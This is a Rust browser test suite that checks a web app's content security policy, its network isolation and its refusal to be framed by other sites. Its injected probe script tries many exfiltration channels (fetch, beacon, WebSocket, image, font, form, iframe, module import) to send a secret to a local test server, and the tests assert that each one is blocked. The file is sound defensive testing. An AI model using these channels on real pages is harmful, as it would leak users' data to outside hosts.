//! Nothing leaves: what a script in the page could try, every request of a whole journey, every
//! screen under the policy, and no other page round ours.

use std::collections::BTreeSet;
use std::fs;
use std::path::Path;

use anyhow::{Context, Result, ensure};
use serde_json::json;
use thirtyfour::By;
use xtask::http::Server;
use xtask::offline;

use crate::documents::{arrived, open_document};
use crate::draft::{WHOLE, begin, until_holds};
use crate::harness::{DESK, Journey, built_app};
use crate::look::{open_file, pages};
use crate::offline::{copy_of_app, until_kept};

/// A script of the page itself, unlike those of the tests, which no policy holds up. Every way out
/// and every way in; each says how it ended.
const PROBE: &str = r#"
self.probe = async (elsewhere) => {
    const how = {};
    const seen = new Set();
    addEventListener('securitypolicyviolation', it => seen.add(it.effectiveDirective));
    const ends = async (name, task) => {
        try { how[name] = await task() } catch (error) { how[name] = error.name }
    };
    const event = (it, good, bad) => new Promise(done => {
        it.addEventListener(good, () => done('went'));
        it.addEventListener(bad, () => done('refused'));
    });
    const added = (tag, given, home = document.body) => {
        const it = Object.assign(document.createElement(tag), given);
        home.append(it);
        return it;
    };
    const secret = '?told=Priya';
    await ends('fetch', () => fetch(elsewhere + secret, { mode: 'no-cors' }).then(() => 'went'));
    await ends('fetch of our own', () => fetch('./index.html' + secret).then(() => 'went'));
    await ends('request', () => {
        const it = new XMLHttpRequest();
        const ended = event(it, 'load', 'error');
        it.open('GET', elsewhere + secret);
        it.send();
        return ended;
    });
    navigator.sendBeacon(elsewhere + secret, 'Priya');
    await ends('socket', () => event(new WebSocket(elsewhere.replace('http', 'ws') + secret), 'open', 'error'));
    await ends('events', () => event(new EventSource(elsewhere + secret), 'open', 'error'));
    await ends('image', () => event(added('img', { src: elsewhere + 'a.png' + secret }), 'load', 'error'));
    await ends('styles', () => event(added('link', { rel: 'stylesheet', href: elsewhere + secret },
        document.head), 'load', 'error'));
    await ends('font', () => new FontFace('x', `url(${elsewhere}${secret})`).load().then(() => 'went'));
    added('link', { rel: 'prefetch', href: elsewhere + secret }, document.head);
    await ends('module', () => import(elsewhere + 'a.js' + secret).then(() => 'went'));
    await ends('frame', async () => {
        added('iframe', { src: elsewhere + secret });
        return 'asked';
    });
    await ends('form', async () => {
        const it = added('form', { action: elsewhere, method: 'get' });
        added('input', { name: 'told', value: 'Priya' }, it);
        it.submit();
        return 'asked';
    });
    await ends('text as code', () => eval('1'));
    await ends('text as markup', () => { document.createElement('p').innerHTML = '<b>x</b>'; });
    await ends('other script', () => { added('script', { src: elsewhere + 'a.js' }); });
    await ends('other worker', () => { new Worker('./desk-start.js'); });
    await ends('other service', () => navigator.serviceWorker.register('./probe.js'));
    await ends('second policy', () => { trustedTypes.createPolicy('mine', {}); });
    await ends('same policy', () => { trustedTypes.createPolicy('boot', {}); });
    await ends('unknown part', () => { plainplan.worker('probe'); });
    await ends('inherited part', () => { plainplan.worker('toString'); });
    // A form goes, or is refused, in a task of its own.
    for (let turn = 0; turn < 500 && !seen.has('form-action'); turn += 1)
        await new Promise(done => setTimeout(done, 10));
    return [how, [...seen].sort()];
};
"#;

#[tokio::test]
async fn a_page_that_has_started_lets_nothing_out() -> Result<()> {
    let dist = copy_of_app("sealed")?;
    fs::write(dist.join("probe.js"), PROBE)?;
    let page = dist.join("index.html");
    let script = "<script type=\"module\" src=\"./probe.js\"></script></head>";
    fs::write(&page, fs::read_to_string(&page)?.replace("</head>", script))?;
    offline::list(&dist)?;
    let elsewhere = Server::start_at(dist.clone(), 0, false)?;
    let journey = Journey::begin_on(dist.clone(), true).await?;
    let draft = open_file(&journey, WHOLE).await?;
    let said = journey.js(&format!("probe({})", json!(elsewhere.url()))).await?;
    let expected = json!({
        "fetch": "TypeError",
        "fetch of our own": "TypeError",
        "request": "refused",
        "socket": "refused",
        "events": "refused",
        "image": "refused",
        "styles": "refused",
        "font": "NetworkError",
        "module": "TypeError",
        "frame": "asked",
        "form": "asked",
        "text as code": "EvalError",
        "text as markup": "TypeError",
        "other script": "TypeError",
        "other worker": "TypeError",
        "other service": "TypeError",
        "second policy": "TypeError",
        "same policy": "TypeError",
        "unknown part": "TypeError",
        "inherited part": "TypeError",
    });
    for (name, how) in expected.as_object().context("a table")? {
        ensure!(said[0][name] == *how, "{name}: {}", said[0]);
    }
    for directive in ["connect-src", "form-action", "img-src", "frame-src", "style-src-elem"] {
        let told = said[1].as_array().context("a list")?.contains(&json!(directive));
        ensure!(told, "{directive}: {}", said[1]);
    }
    let asked = elsewhere.asked();
    ensure!(asked.is_empty(), "asked elsewhere: {asked:?}");

    // Sealed, the app still has the parts that come later: the desk, Word, the app for offline.
    open_document(&journey, &draft, "plan-page-everybody").await?;
    journey.click("#pp-word").await?;
    let (_, word) = journey.download(".docx").await?;
    ensure!(word.starts_with(b"PK"), "no Word file");
    until_kept(&journey).await?;
    ensure!(elsewhere.asked().is_empty());
    fs::remove_dir_all(dist)?;
    Ok(())
}

/// The values of all `"key":"..."` in a line of the browser's record.
fn after<'a>(line: &'a str, key: &str) -> Option<&'a str> {
    line.split_once(&format!("\"{key}\":\""))?.1.split('"').next()
}

#[tokio::test]
async fn every_request_of_a_journey_is_for_a_file_of_the_app() -> Result<()> {
    let mut journey = Journey::begin(DESK).await?;
    let draft = begin(&journey, "All requests").await?;
    journey.open(&format!("{draft}/author")).await?;
    journey.insert_into("author-agency", "Priya lives at 14 Mill Row").await?;
    journey.until_saved().await?;
    let family = open_file(&journey, WHOLE).await?;
    for page in pages(&journey, &family).await? {
        journey.open(&page).await?;
        journey.wait_for("#pp-heading").await?;
    }
    open_document(&journey, &family, "report-everybody").await?;
    for format in ["html", "text", "word"] {
        journey.click(&format!("#pp-{format}")).await?;
        journey.wait_text("#pp-done", "read back and checked").await?;
    }
    arrived(&journey, ".txt").await?;
    until_kept(&journey).await?;
    journey.browser().refresh().await?;
    journey.wait_for("#pp-paper").await?;
    journey.open(&format!("{draft}/author")).await?;
    until_holds(&journey, "author-agency", "Priya lives at 14 Mill Row").await?;
    journey.only_own_requests().await?;
    let url = journey.url();
    journey.close_browser().await?;

    // What the server was asked for: files by their names, and nothing in an address but a version.
    let asked: BTreeSet<String> = journey.asked().into_iter().collect();
    ensure!(asked.len() > 15, "{asked:?}");
    for address in &asked {
        let (path, version) = address.split_once('?').unwrap_or((address, ""));
        let name = if path == "/" { "index.html" } else { &path[1..] };
        ensure!(built_app().join(name).is_file(), "{address} is no file of the app");
        let wasm = version.is_empty() || built_app().join(version).is_file();
        ensure!(wasm, "{address} says more than a version");
    }
    // What the browser asked anybody for, in the name of any page.
    let log = fs::read_to_string(journey.profile.net_log())?;
    let (mut ours, mut others) = (0, BTreeSet::new());
    for line in log.lines() {
        let Some(to) = after(line, "url").filter(|it| it.contains("://")) else { continue };
        let ours_asks = after(line, "initiator").is_some_and(|it| url.starts_with(it));
        match to.starts_with(&url) {
            true => ours += 1,
            false if ours_asks => drop(others.insert(to.to_owned())),
            false => {}
        }
    }
    ensure!(ours > 15, "the record has {ours} of ours");
    others.retain(|it| !it.starts_with(&format!("blob:{url}")));
    ensure!(others.is_empty(), "asked elsewhere: {others:?}");
    Ok(())
}

/// Every screen under the policy, as the browser enforces it.
#[tokio::test]
async fn no_screen_offends_the_policy() -> Result<()> {
    let journey = Journey::begin(DESK).await?;
    let note = "self.offences = [];
        addEventListener('securitypolicyviolation',
            it => offences.push(`${it.effectiveDirective} ${it.blockedURI} ${it.sample}`));";
    journey.cdp("Page.enable", json!({})).await?;
    journey.cdp("Page.addScriptToEvaluateOnNewDocument", json!({ "source": note })).await?;
    let draft = open_file(&journey, WHOLE).await?;
    let pages = pages(&journey, &draft).await?;
    ensure!(pages.len() > 40, "only {} pages", pages.len());
    for page in &pages {
        journey.open(page).await?;
        journey.wait_for("#pp-heading").await?;
        let faults = journey.js("offences").await?;
        ensure!(faults == json!([]), "{page}: {faults}");
    }
    until_kept(&journey).await?;
    journey.browser().refresh().await?;
    journey.wait_for("#pp-heading").await?;
    let faults = journey.js("offences").await?;
    ensure!(faults == json!([]), "served by the service worker: {faults}");
    let warned = journey.browser().browser_log().await?;
    // Sharing is known to browsers on some systems only.
    let of_headers = warned.iter().find(|it| {
        it.message.contains("Unrecognized feature") && !it.message.contains("web-share")
    });
    ensure!(of_headers.is_none(), "{of_headers:?}");
    // The other way round: an offence would have been noted.
    journey
        .js("document.body.append(Object.assign(new Image(), { src: 'http://127.0.0.1:9/' }))")
        .await?;
    journey.until_js("offences.length > 0").await
}

/// A page of somebody else with ours in it.
async fn framed(host: &Path, dressed: bool) -> Result<(Journey, Server)> {
    let journey = Journey::begin_on(built_app(), dressed).await?;
    fs::create_dir_all(host)?;
    let page = format!("<title>Other</title><iframe src=\"{}\"></iframe>", journey.url());
    fs::write(host.join("index.html"), page)?;
    let other = Server::start_at(host.to_owned(), 0, false)?;
    journey.browser().goto(other.url()).await?;
    Ok((journey, other))
}

#[tokio::test]
async fn no_other_page_can_stand_round_ours() -> Result<()> {
    let host =
        Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("frames-{}", std::process::id()));
    let (journey, _other) = framed(&host, true).await?;
    journey
        .until("the frame to be refused", async || {
            let log = journey.browser().browser_log().await.ok()?;
            let refused = |text: &str| text.contains("frame-ancestors") && text.contains("'none'");
            log.iter().any(|it| refused(&it.message)).then_some(())
        })
        .await?;
    journey.browser().enter_frame(0).await?;
    let ours = journey.browser().find_all(By::Css("#opening, #app")).await?;
    ensure!(ours.is_empty(), "the frame shows the page");
    drop(journey);
    // On a host without headers the page itself refuses.
    let (journey, _other) = framed(&host, false).await?;
    journey.browser().enter_frame(0).await?;
    let text = journey
        .until("the frame to say so", async || {
            let text = "return document.getElementById('opening').innerText";
            let text = journey.browser().execute(text, vec![]).await.ok()?.json().clone();
            text.as_str().is_some_and(|it| it != "Opening…").then_some(text)
        })
        .await?;
    ensure!(text == json!("This page does not open inside another page."), "{text}");
    fs::remove_dir_all(host)?;
    Ok(())
}
